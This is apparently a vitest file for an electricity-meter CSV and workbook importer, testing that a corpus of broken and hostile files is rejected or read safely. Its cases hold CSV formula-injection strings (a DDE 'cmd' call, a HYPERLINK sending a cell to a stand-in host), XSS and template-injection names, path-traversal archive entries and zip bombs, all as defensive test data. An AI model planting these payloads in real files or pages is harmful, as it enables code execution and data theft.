/**
 * The corpus of bad and hostile files in test/fixtures/bad/ (README.md there says what each one
 * is): for every file, exactly what the importer must say — a ParseError naming the file, the
 * line and the column, or the warnings it reads the file with and values that are sane. Also:
 * every file is read within 2 s, a bad file leaves a previously assembled cluster and the
 * importer's state untouched, and HTML in member names comes back as literal text.
 */
import { readFileSync, readdirSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  ParseError,
  assembleCluster,
  parseFile,
  type ParsedFile,
  type ParsedReadings,
  type ParsedRegister,
  type WarningCode,
} from '../../../src/ingest/index';
import { CsvReader, MAX_FIELDS, parseNumber } from '../../../src/ingest/csv';
import { decodeBytes } from '../../../src/ingest/decode';
import { fixtureBytes } from './fixtures';
import { unpackFile } from '../../../src/ingest/unpack';

const DIR = new URL('../../fixtures/bad/', import.meta.url);
/** Every file must be read (or rejected) within this, on a loaded 2-core machine. */
const MAX_MS = 2000;
const P1 = 'PL0037910000001001';

interface ErrorExpected {
  line: number | undefined;
  column: number | undefined;
  reason: string | RegExp;
}

interface Case {
  /** File name in test/fixtures/bad/. Names ending in .csv.gz are stored compressed. */
  file: string;
  /** A ParseError, exactly where. */
  error?: ErrorExpected;
  /** Read, with exactly these warning codes (in order of first appearance, duplicates removed). */
  warnings?: WarningCode[];
  check?: (p: ParsedFile) => void;
  /** What the archive or workbook it came out of left out (unpackFile's notes). */
  notes?: (string | RegExp)[];
  /** The name the file inside is read under, when it came out of an archive or workbook. */
  inner?: string;
  /** A longer time limit (ms): bombs inflate hundreds of megabytes before they are stopped. */
  maxMs?: number;
}

const err = (line: number | undefined, column: number | undefined, reason: string | RegExp): ErrorExpected => ({
  line,
  column,
  reason,
});
const NOT_RECOGNISED = /^the layout is not recognised; the first line reads /;
const BROKEN_ZIP = 'the zip archive is broken or incomplete (no end of central directory: was the download cut short?)';
const bomb = (what: string, mb: number) =>
  `${what} unpacks to more than ${mb} MB, more than a file or an archive may hold here (a zip bomb, or an export ` +
  'far larger than a year of quarter-hours); unpack it yourself and load the files in parts';
const EMPTY = err(1, undefined, 'the file is empty');
const NO_ROWS = err(2, undefined, 'no data rows below the header on line 1');
const cut = (fields: number, needed: number, name: string) =>
  `the row has ${fields} field(s) but needs at least ${needed} (no "${name}") — is it cut short?`;
const UNCLOSED = 'a quoted field is never closed (a `"` is missing)';
const notNumber = (text: string) => `"${text}" is not a number`;
const notTime = (text: string) => `"${text}" is not a date and time`;
/** A value far beyond any meter (over 1e9 kWh, layout.ts numberCell) is rejected where it stands. */
const outOfRange = (text: string) =>
  `"${text}" is out of range: more than 1,000,000,000 kWh in one value — is a meter id or a date in a value column?`;

function readings(p: ParsedFile): ParsedReadings {
  if (p.kind !== 'readings') throw new Error(`${p.file} parsed as ${p.kind}`);
  return p;
}
function register(p: ParsedFile): ParsedRegister {
  if (p.kind !== 'register') throw new Error(`${p.file} parsed as ${p.kind}`);
  return p;
}
const imports = (p: ParsedFile, meter = 0) => Array.from(readings(p).meters[meter]!.import);
const exportsOf = (p: ParsedFile, meter = 0) => Array.from(readings(p).meters[meter]!.export);
const names = (p: ParsedFile) => register(p).members.map((m) => m.name);
const ids = (p: ParsedFile) => register(p).members.map((m) => m.id);
const warningAt = (p: ParsedFile, code: WarningCode) => p.warnings.find((w) => w.code === code)!;

const CASES: Case[] = [
  // Empty and blank.
  { file: 'empty.csv', error: EMPTY },
  { file: 'bom-only.csv', error: EMPTY },
  { file: 'utf16-bom-only.csv', error: EMPTY },
  { file: 'blank-lines-only.csv', error: EMPTY },
  // Today "the layout is not recognised; the first line reads """; better: "the file is empty".
  { file: 'separators-only.csv', error: err(1, undefined, NOT_RECOGNISED) },

  // A header and nothing else.
  { file: 'header-only-long.csv', error: NO_ROWS },
  { file: `header-only-tauron-${P1}.csv`, error: NO_ROWS },
  { file: 'header-only-enea-PL0037910000001004.csv', error: NO_ROWS },
  { file: 'header-only-daily-wide.csv', error: NO_ROWS },
  { file: 'header-only-wide-net.csv', error: NO_ROWS },
  { file: 'header-only-register.csv', error: err(2, undefined, 'no members below the header on line 1') },
  { file: `Tauron_eLicznik_${P1}_2024-01-01_2024-12-31_full_export_2GB.csv`, error: NO_ROWS },

  // Not text.
  // Workbooks and archives (unpackFile first, as the page and the CLI do).
  { file: 'zuzycie-2025.xlsx', error: err(undefined, undefined, BROKEN_ZIP) },
  {
    file: 'zuzycie-2025.xls',
    error: err(
      undefined,
      undefined,
      'the workbook is broken, incomplete or not a workbook (the spreadsheet reader says: Unsupported ZIP encryption)',
    ),
  },
  { file: 'truncated.xlsx', error: err(undefined, undefined, BROKEN_ZIP) },
  { file: 'empty-sheet.xlsx', error: err(undefined, undefined, 'the workbook holds no data on any sheet') },
  {
    file: 'password.xlsx',
    error: err(
      undefined,
      undefined,
      'the workbook is password-protected; open it in a spreadsheet, remove the password and save it again',
    ),
  },
  { file: 'bomb-600mb-entry.zip.gz', maxMs: 30_000, error: err(undefined, undefined, bomb('"zuzycie.csv"', 500)) },
  { file: 'bomb-sheet.xlsx.gz', maxMs: 30_000, error: err(undefined, undefined, bomb('"xl/worksheets/sheet1.xml"', 250)) },
  {
    file: 'entries-10001.zip.gz',
    error: err(
      undefined,
      undefined,
      'the archive lists 10,001 entries, more than the 10,000 it may have; unpack it and load the files in parts',
    ),
  },
  {
    file: 'nested.zip',
    error: err(
      undefined,
      undefined,
      'the archive holds no file that can be read: "wewnetrzne.zip" is an archive inside the archive; left out (unpack it and load its files)',
    ),
  },
  {
    file: 'encrypted.zip',
    error: err(
      undefined,
      undefined,
      'the archive holds no file that can be read: "dane.csv" is encrypted (password-protected); left out',
    ),
  },
  { file: 'empty.zip', error: err(undefined, undefined, 'the archive holds no file that can be read') },
  {
    file: 'analiza.klaster.zip',
    error: err(undefined, undefined, 'is a Klaster project file: open it with “Open project”'),
  },
  {
    file: 'truncated-gzip.gz',
    error: err(
      undefined,
      undefined,
      'the gzip file is broken or incomplete (its check sum does not match: was the download cut short?)',
    ),
  },
  {
    file: 'path-tricks.zip',
    inner: 'PL0037910000001001.csv',
    warnings: [],
    notes: ['../../etc/evil.csv', '/abs/evil.csv', 'C:\\Windows\\evil.csv', 'dane\\..\\..\\evil.csv'].map(
      (path) => `path-tricks.zip: "${path}" points outside the archive (an absolute path or ".."); left out`,
    ),
    check: (p) => expect(imports(p)).toEqual([2, 2.1, 2.2, 2.3]),
  },
  {
    file: 'huge-dimension.xlsx',
    warnings: [],
    check: (p) => {
      expect(imports(p)).toEqual([2, 2.1, 2.2, 2.3]);
      expect(p.detection.headerLine).toBe(1);
    },
  },
  {
    file: 'formulas.xlsx',
    warnings: ['missing-intervals'],
    notes: [
      /^formulas\.xlsx: sheet "Arkusz1": read as empty: 1 cell\(s\) with a formula saved without its value, or with an error/,
    ],
    check: (p) => {
      // Cached values only: the HYPERLINK, the DDE call and the external reference were not run.
      expect(imports(p)).toEqual([2, 2.1, 2.2, Number.NaN]);
      expect(readings(p).meters[0]!.id).toBe(P1);
    },
  },
  { file: 'photo.png', error: err(1, undefined, NOT_RECOGNISED) },
  {
    file: 'gzip-archive.gz',
    inner: 'gzip-archive',
    warnings: [],
    check: (p) => expect(imports(p).slice(0, 3)).toEqual([2, 2.1, 2.2]),
  },
  { file: 'faktura.pdf', error: err(1, undefined, /^the layout is not recognised; the first line reads "%PDF-1\.4"/) },
  { file: 'random-bytes.csv', error: err(1, undefined, NOT_RECOGNISED) },

  // Cut short.
  { file: 'truncated-long.csv', error: err(7, 3, cut(2, 4, 'export_kwh')) },
  { file: `truncated-tauron-${P1}.csv`, error: err(10, 4, cut(3, 4, 'Rodzaj')) },
  {
    file: 'truncated-enea-PL0037910000001004.csv',
    error: err(7, 3, cut(2, 5, 'Wolumen energii elektrycznej oddanej do sieci po bilansowaniu godzinowym')),
  },
  { file: 'truncated-daily-wide.csv', error: err(4, 14, cut(13, 27, 'H24')) },
  { file: 'truncated-wide-net.csv', error: err(8, 3, cut(2, 4, 'PL0037910000001003')) },
  { file: 'truncated-register.csv', error: err(5, 2, cut(1, 2, 'nazwa')) },
  { file: 'truncated-mid-quote-enea-PL0037910000001004.csv', error: err(7, 2, UNCLOSED) },
  { file: 'truncated-mid-quote-register.csv', error: err(5, 2, UNCLOSED) },

  // Columns.
  // Read as a wide net file whose meters are "Opis", "Kwota", "Saldo"; better: not recognised.
  { file: 'wrong-columns-bank-statement.csv', error: err(2, 1, '"2025-01-02" has no time of day') },
  {
    file: 'missing-timestamp-column.csv',
    error: err(1, undefined, /^the layout is not recognised; the first line reads "ppe,import_kwh,export_kwh"/),
  },
  {
    file: 'missing-value-column.csv',
    error: err(1, undefined, /^the layout is not recognised; the first line reads "ppe,timestamp_utc"/),
  },
  {
    file: 'extra-columns.csv',
    warnings: [],
    check: (p) => expect(imports(p)).toEqual([2, 2.1, 2.2, 2.3, 2.4]),
  },
  { file: 'mixed-separators.csv', error: err(5, 2, cut(1, 4, 'export_kwh')) },

  // Numbers.
  { file: 'text-in-number-wide-net.csv', error: err(5, 3, notNumber('12 kWh')) },
  { file: 'value-1e308.csv', error: err(4, 3, outOfRange('1e308')) },
  { file: 'value-minus-1e308.csv', error: err(4, 3, outOfRange('-1e308')) },
  { file: 'value-huge-integer.csv', error: err(4, 3, outOfRange('123456789012345678901234567890')) },
  { file: 'value-ppe-shifted-into-value.csv', error: err(4, 3, outOfRange('590543000000000123')) },
  { file: 'value-1e309-overflow.csv', error: err(4, 3, notNumber('1e309')) },
  { file: 'value-nan.csv', error: err(4, 3, notNumber('NaN')) },
  { file: 'value-infinity.csv', error: err(4, 3, notNumber('Infinity')) },
  {
    file: 'value-minus-zero.csv',
    warnings: [],
    check: (p) => {
      expect(imports(p)).toEqual([1, 1, 0, 1, 1]);
      expect(Object.is(readings(p).meters[0]!.import[2], -0)).toBe(false);
    },
  },
  { file: `mixed-decimal-marks-tauron-${P1}.csv`, error: err(8, 3, notNumber('4.125')) },
  {
    file: 'negative-import.csv',
    warnings: ['negative-values'],
    check: (p) => {
      expect(imports(p)).toEqual([1, 1, 0, 1, 1]);
      expect(warningAt(p, 'negative-values')).toMatchObject({ line: 4, count: 1 });
    },
  },
  { file: 'very-long-value.csv.gz', error: err(4, 3, `"${'9'.repeat(40)}…" is not a number`) },

  // Dates and times.
  { file: 'date-year-1899.csv', error: err(5, 2, notTime('1899-12-31T23:45:00Z')) },
  { file: 'date-year-2200-daily-wide.csv', error: err(3, 3, '"2200-01-02" is not a date') },
  { file: 'date-month-13-enea-PL0037910000001004.csv', error: err(5, 1, notTime('2025-13-01 00:59')) },
  { file: `date-feb-31-tauron-${P1}.csv`, error: err(6, 1, notTime('2025-02-31 1:00')) },
  { file: `time-hour-25-tauron-${P1}.csv`, error: err(50, 1, notTime('2025-05-01 25:00')) },
  { file: 'time-24-30-wide-net.csv', error: err(5, 1, notTime('2025-01-01T24:30:00+01:00')) },
  {
    file: 'duplicate-timestamp.csv',
    warnings: ['duplicate-intervals'],
    check: (p) => {
      expect(imports(p)).toEqual([2, 9.999, 2.2, 2.3, 2.4, 2.5]);
      expect(warningAt(p, 'duplicate-intervals')).toMatchObject({ line: 6, count: 2 });
      expect(warningAt(p, 'duplicate-intervals').message).toContain('1 of them differ');
    },
  },
  {
    file: 'step-30-minutes-wide-net.csv',
    error: err(3, 1, `the readings of ${P1} are 30 minutes apart; only 15- and 60-minute data are supported`),
  },
  // Newest first: today misread as hourly data; better: read like the same rows oldest first.
  {
    file: 'timestamps-backwards.csv',
    error: err(
      2,
      2,
      `2025-01-01 00:45 UTC is not the start of a 60-minute interval (the other readings of ${P1} are 60 minutes apart)`,
    ),
  },
  {
    file: 'timestamps-out-of-order.csv',
    warnings: [],
    check: (p) => {
      expect(readings(p).meters[0]!.startUtcMs).toBe(Date.UTC(2024, 11, 31, 23));
      expect(imports(p)).toEqual([2, 2.1, 2.2, 2.3, 2.4, 2.5, 2.6, 2]);
    },
  },

  // Encodings and line ends.
  {
    file: `mixed-encodings-tauron-${P1}.csv`,
    warnings: ['mixed-encoding'],
    check: (p) => {
      expect(p.detection).toMatchObject({ layout: 'tauron', encoding: 'utf-8+windows-1250' });
      expect(warningAt(p, 'mixed-encoding')).toMatchObject({ count: 2 });
      expect(imports(p)).toEqual([1.125, 2.125, 3.125, 4.125]);
      expect(exportsOf(p)).toEqual([0, 0, 0, 0]);
    },
  },
  {
    file: 'mixed-encodings-register.csv',
    warnings: ['mixed-encoding'],
    check: (p) => {
      expect(p.detection.encoding).toBe('utf-8+windows-1250');
      expect(warningAt(p, 'mixed-encoding')).toMatchObject({ count: 1 });
      expect(names(p)).toEqual(['Urząd Miasta i Gminy', 'Szkoła Podstawowa w Łoniowie']);
      expect(register(p).members[1]!.gmina).toBe('Łoniów');
    },
  },
  {
    file: `utf16le-tauron-${P1}.csv`,
    warnings: [],
    check: (p) => {
      expect(p.detection).toMatchObject({ layout: 'tauron', encoding: 'utf-16le' });
      expect(imports(p)).toEqual([1.125, 2.125, 3.125]);
    },
  },
  {
    file: 'utf16be-no-bom-register.csv',
    warnings: [],
    check: (p) => {
      expect(p.detection.encoding).toBe('utf-16be');
      expect(names(p)).toEqual(['Urząd Miasta i Gminy', 'PGKiM – stacja uzdatniania wody', 'ZGOK – biogazownia']);
    },
  },
  {
    file: `cr-only-tauron-${P1}.csv`,
    warnings: [],
    check: (p) => {
      expect(readings(p).meters[0]!.startUtcMs).toBe(Date.UTC(2025, 3, 30, 22));
      expect(imports(p)).toEqual([1.125, 2.125, 3.125]);
    },
  },

  // Formulas and markup: plain text, never evaluated; a formula where a number belongs is an error.
  {
    file: 'formula-injection-register.csv',
    warnings: [],
    check: (p) => {
      expect(ids(p)).toEqual(["=cmd|' /C calc'!A0", '+SUM(A1)', '@foo', '-2+3']);
      expect(names(p)).toEqual(['Kowalski', '=HYPERLINK("http://x.invalid/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", '-2+3']);
      expect(register(p).members[3]!.gmina).toBe('=1+1');
    },
  },
  {
    file: 'formula-injection-long.csv',
    warnings: [],
    check: (p) => {
      expect(readings(p).meters.map((m) => m.id)).toEqual(["=cmd|' /C calc'!A0", '@foo', '+SUM(A1)']);
      const { data } = assembleCluster(readings(p).meters, []);
      expect(data.members.map((m) => m.name)).toEqual(["=cmd|' /C calc'!A0", '@foo', '+SUM(A1)']);
    },
  },
  { file: 'formula-in-value.csv', error: err(4, 3, notNumber('-2+3')) },
  { file: 'formula-in-register-capacity.csv', error: err(3, 6, notNumber('=1+1')) },
  {
    file: 'html-names-register.csv',
    warnings: [],
    check: (p) => {
      expect(names(p)).toEqual([
        '<script>alert(1)</script>',
        '<img src=x onerror=alert(document.cookie)>',
        'Kowalski & Syn "<i>" &lt;x&gt; </td></tr>',
        "{{constructor.constructor('alert(1)')()}}",
      ]);
      expect(ids(p)[3]).toBe('<svg onload=alert(1)>');
      expect(register(p).members.map((m) => m.gmina)).toEqual(['Osiek', '<b>Staszów</b>', 'Osiek', '${7*7}']);
    },
  },

  // Register problems.
  {
    file: 'duplicate-ppe-register.csv',
    warnings: ['register'],
    check: (p) => {
      expect(ids(p)).toEqual([P1, 'PL0037910000001002', 'PL0037910000001003']);
      expect(names(p)[0]).toBe('Urząd Miasta i Gminy');
      expect(p.warnings.map((w) => w.line)).toEqual([5, 6]);
      expect(p.warnings[0]!.message).toBe(
        `duplicate-ppe-register.csv line 5: PPE ${P1} is already listed on line 2; this row was ignored`,
      );
    },
  },
  {
    file: 'very-long-name-register.csv.gz',
    warnings: [],
    check: (p) => {
      expect(names(p)).toEqual(['Spółdzielnia '.repeat(8000).trim()]);
    },
  },

  // Size: long lines and claims of size.
  { file: 'long-line-5mb.csv.gz', error: err(1, undefined, /^the layout is not recognised; the first line reads "A{40}…"/) },
  {
    file: 'long-line-5mb-separators.csv.gz',
    error: err(1, 10001, 'the line has more than 10000 fields separated by ";"; no meter export or register is that wide'),
  },
  { file: 'long-line-5mb-after-header.csv.gz', error: err(2, 4, cut(3, 4, 'export_kwh')) },
  {
    file: 'row-count-claim.csv',
    warnings: [],
    check: (p) => {
      expect(p.detection).toMatchObject({ headerLine: 3, dataRows: 4 });
      expect(imports(p)).toEqual([2, 2.1, 2.2, 2.3]);
    },
  },

  // Layout specifics.
  {
    file: `tauron-unknown-rodzaj-${P1}.csv`,
    warnings: ['ignored-rows'],
    check: (p) => {
      expect(imports(p)).toEqual([1.125, 2.125, 3.125, 4.125]);
      expect(warningAt(p, 'ignored-rows')).toMatchObject({ line: 7, count: 2 });
      expect(warningAt(p, 'ignored-rows').message).toContain('"przesył"');
    },
  },
  { file: `tauron-only-unknown-rodzaj-${P1}.csv`, error: err(undefined, undefined, 'no import or export values were found') },
  {
    file: 'enea-no-wrapper-PL0037910000001004.csv',
    warnings: ['netted-values'],
    check: (p) => {
      expect(p.detection.layout).toBe('enea');
      expect(readings(p).meters[0]!.startUtcMs).toBe(Date.UTC(2024, 11, 31, 23));
      expect(imports(p)).toEqual([10, 10.25, 10.5, 10.75]);
    },
  },
  { file: 'enea-broken-wrapper-PL0037910000001004.csv', error: err(4, 1, notTime('="2025-01-01 02:59')) },
  {
    file: 'daily-wide-h26.csv',
    warnings: ['extra-hours'],
    check: (p) => {
      expect(imports(p)).toHaveLength(24);
      expect(imports(p)).not.toContain(7.5);
      expect(warningAt(p, 'extra-hours')).toMatchObject({ line: 2, count: 1 });
    },
  },
  {
    file: 'daily-wide-25-hours-on-spring-day.csv',
    warnings: ['extra-hours'],
    check: (p) => {
      const m = readings(p).meters[0]!;
      expect(m.import).toHaveLength(23);
      expect(m.startUtcMs).toBe(Date.UTC(2025, 2, 29, 23));
      expect(warningAt(p, 'extra-hours')).toMatchObject({ line: 2, count: 2 });
    },
  },
];

/** The bytes of a bad file and the name the user would have given it. */
function load(file: string): { name: string; bytes: Uint8Array } {
  const raw = new Uint8Array(readFileSync(new URL(file, DIR)));
  if (/\.(csv|zip|xlsx)\.gz$/.test(file)) return { name: file.slice(0, -3), bytes: new Uint8Array(gunzipSync(raw)) };
  return { name: file, bytes: raw };
}

/** Every value a meter series holds is missing (NaN) or a finite, non-negative number of kWh. */
function expectSane(p: ParsedReadings): void {
  expect(p.meters.length).toBeGreaterThan(0);
  for (const m of [...p.meters, ...p.netted]) {
    expect([15, 60]).toContain(m.stepMinutes);
    expect(m.startUtcMs % (m.stepMinutes * 60_000)).toBe(0);
    expect(m.import.length).toBe(m.export.length);
    for (const series of [m.import, m.export]) {
      for (const v of series) if (v === v) expect(Number.isFinite(v) && v >= 0, `${m.id}: ${v}`).toBe(true);
    }
  }
}

// A good file the worker already holds, assembled: a bad file must not disturb it.
let good: { register: ParsedFile; tauron: ParsedFile; cluster: ReturnType<typeof assembleCluster> };
let snapshot: typeof good;
const tauronSample = (() => {
  const bytes = fixtureBytes('tauron-elicznik-PL0037910000001001.csv');
  let lines = 0;
  let end = 0;
  while (lines < 97 && end < bytes.length) if (bytes[end++] === 0x0a) lines++;
  return bytes.slice(0, end);
})();

beforeAll(() => {
  const register = parseFile('members.csv', fixtureBytes('members.csv'));
  const tauron = parseFile('tauron-elicznik-PL0037910000001001.csv', tauronSample);
  good = { register, tauron, cluster: assembleCluster(readings(tauron).meters, (register as ParsedRegister).members) };
  snapshot = structuredClone(good);
});

describe('the bad-file corpus', () => {
  it('has a test case and a README line for every file, and at least 40 files', () => {
    const onDisk = readdirSync(DIR)
      .filter((f) => f !== 'README.md')
      .sort();
    expect(CASES.map((c) => c.file).sort()).toEqual(onDisk);
    expect(onDisk.length).toBeGreaterThanOrEqual(40);
    const readme = readFileSync(new URL('README.md', DIR), 'utf8');
    for (const f of onDisk) expect(readme, f).toContain(`\`${f}\``);
  });
});

describe('each bad file gives exactly the expected answer', () => {
  for (const c of CASES) {
    it(c.file, async () => {
      const { name: given, bytes: raw } = load(c.file);
      const t0 = performance.now();
      let parsed: ParsedFile | undefined;
      let thrown: unknown;
      // As the page and the CLI read a file: what it holds first (archives, workbooks), then each.
      let name = given;
      let notes: string[] = [];
      let inputs: Awaited<ReturnType<typeof unpackFile>> | undefined;
      try {
        inputs = await unpackFile(given, raw);
      } catch (e) {
        thrown = e;
      }
      if (inputs) {
        expect(inputs.map((f) => f.name)).toEqual([c.inner ?? given]);
        name = inputs[0]!.name;
        notes = inputs[0]!.notes;
        try {
          parsed = parseFile(name, inputs[0]!.bytes);
        } catch (e) {
          thrown = e;
        }
      }
      expect(notes.length, notes.join('\n')).toBe(c.notes?.length ?? 0);
      c.notes?.forEach((want, i) => (typeof want === 'string' ? expect(notes[i]).toBe(want) : expect(notes[i]).toMatch(want)));
      expect(performance.now() - t0).toBeLessThan(c.maxMs ?? MAX_MS);

      if (c.error) {
        expect(parsed, `${name} was read without an error`).toBeUndefined();
        expect(thrown).toBeInstanceOf(ParseError);
        const e = thrown as ParseError;
        expect({ file: e.file, line: e.line, column: e.column }).toEqual({
          file: name,
          line: c.error.line,
          column: c.error.column,
        });
        if (typeof c.error.reason === 'string') expect(e.reason).toBe(c.error.reason);
        else expect(e.reason).toMatch(c.error.reason);
        const where =
          c.error.line === undefined
            ? name
            : `${name} line ${c.error.line}${c.error.column === undefined ? '' : `, column ${c.error.column}`}`;
        expect(e.message).toBe(`${where}: ${e.reason}`);
        // A message stays readable whatever the file holds: cells are quoted cut short.
        expect(e.message.length).toBeLessThan(name.length + 600);
        expect(e.reason).not.toContain('internal error');
      } else {
        if (thrown !== undefined) throw thrown;
        const p = parsed!;
        if (p.kind === 'readings') expectSane(p);
        else for (const m of p.members) expect(m.id).not.toBe('');
        expect([...new Set(p.warnings.map((w) => w.code))]).toEqual(c.warnings ?? []);
        for (const w of p.warnings) expect(w.message).toContain(name);
        c.check?.(p);
      }

      // The worker's earlier result is untouched, and the importer kept no state from the bad file.
      expect(good).toEqual(snapshot);
      expect(parseFile('tauron-elicznik-PL0037910000001001.csv', tauronSample)).toEqual(snapshot.tauron);
    });
  }
});

describe('after the whole corpus', () => {
  it('the good files still parse and assemble to the same cluster', () => {
    for (const c of CASES) {
      const { name, bytes } = load(c.file);
      try {
        parseFile(name, bytes);
      } catch {
        // Expected for most of them.
      }
    }
    const register = parseFile('members.csv', fixtureBytes('members.csv')) as ParsedRegister;
    const tauron = readings(parseFile('tauron-elicznik-PL0037910000001001.csv', tauronSample));
    const again = assembleCluster(tauron.meters, register.members);
    expect(again).toEqual(snapshot.cluster);
    expect(again.data.intervals).toBe(48);
    expect(again.data.startUtcMs).toBe(Date.UTC(2024, 11, 31, 23));
    expect(good.cluster.data.imports[0]).toBe(10.143);
  });
});

describe('the fixes the corpus led to', () => {
  it('parseNumber: no Infinity, no single-group thousands written with the other mark', () => {
    expect(parseNumber('1e309', '.')).toBeNaN();
    expect(parseNumber('-1e309', '.')).toBeNaN();
    expect(parseNumber('1e308', '.')).toBe(1e308);
    // "4.125" in a decimal-comma file: 4.125 or 4125? Neither is guessed.
    expect(parseNumber('4.125', ',')).toBeNaN();
    expect(parseNumber('4,125', '.')).toBeNaN();
    // Unambiguous thousands still read.
    expect(parseNumber('1.234.567', ',')).toBe(1234567);
    expect(parseNumber('1.234,5', ',')).toBe(1234.5);
    expect(parseNumber('1,234.5', '.')).toBe(1234.5);
    expect(parseNumber('1 234', ',')).toBe(1234);
    expect(parseNumber("1'234", '.')).toBe(1234);
  });

  it('CsvReader stops at MAX_FIELDS fields, quoted or not', () => {
    const plain = new CsvReader('x.csv', `${'1;'.repeat(MAX_FIELDS - 1)}1\n`, ';');
    expect(plain.next()).toBe(true);
    expect(plain.fields).toHaveLength(MAX_FIELDS);
    for (const text of ['1;'.repeat(MAX_FIELDS + 5), '"1";'.repeat(MAX_FIELDS + 5)]) {
      const reader = new CsvReader('x.csv', `a;b\n${text}\n`, ';');
      expect(reader.next()).toBe(true);
      let e: unknown;
      try {
        reader.next();
      } catch (caught) {
        e = caught;
      }
      expect(e).toBeInstanceOf(ParseError);
      expect(e).toMatchObject({ line: 2, column: MAX_FIELDS + 1 });
    }
  });

  it('decodeBytes reads UTF-8 lines among code-page lines, each in its own encoding', () => {
    const cp = (text: string, map: Record<string, number>) => Array.from(text, (c) => map[c] ?? c.charCodeAt(0));
    const CP1250 = { ł: 0xb3, ó: 0xf3, ź: 0x9f, Ł: 0xa3, Ó: 0xd3, ś: 0x9c };
    const ISO = { ł: 0xb3, ó: 0xf3, ź: 0xbc, Ł: 0xa3, Ó: 0xd3, ś: 0xb6 };
    const utf = (text: string) => Array.from(new TextEncoder().encode(text));
    const mixed = Uint8Array.from([...utf('Łódź – ok\r\n'), ...cp('Łódź;środa\r\n', CP1250), ...utf('żółw\n')]);
    expect(decodeBytes(mixed)).toEqual({
      text: 'Łódź – ok\nŁódź;środa\nżółw\n',
      encoding: 'utf-8+windows-1250',
      nulBytesRemoved: 0,
      mixed: { codePage: 'windows-1250', utf8Lines: 2, codePageLines: 1 },
    });
    const iso = Uint8Array.from([...cp('Łódź;środa\n', ISO), ...utf('Łódź\n')]);
    expect(decodeBytes(iso)).toMatchObject({ text: 'Łódź;środa\nŁódź\n', encoding: 'utf-8+iso-8859-2' });
    // windows-1250 "DÓŁ" (D3 A3) is valid UTF-8 of a Cyrillic letter: not taken for a UTF-8 line.
    const cp1250Only = Uint8Array.from([...cp('Łódź\n', CP1250), ...cp('DÓŁ\n', CP1250)]);
    expect(decodeBytes(cp1250Only)).toEqual({ text: 'Łódź\nDÓŁ\n', encoding: 'windows-1250', nulBytesRemoved: 0 });
  });
});
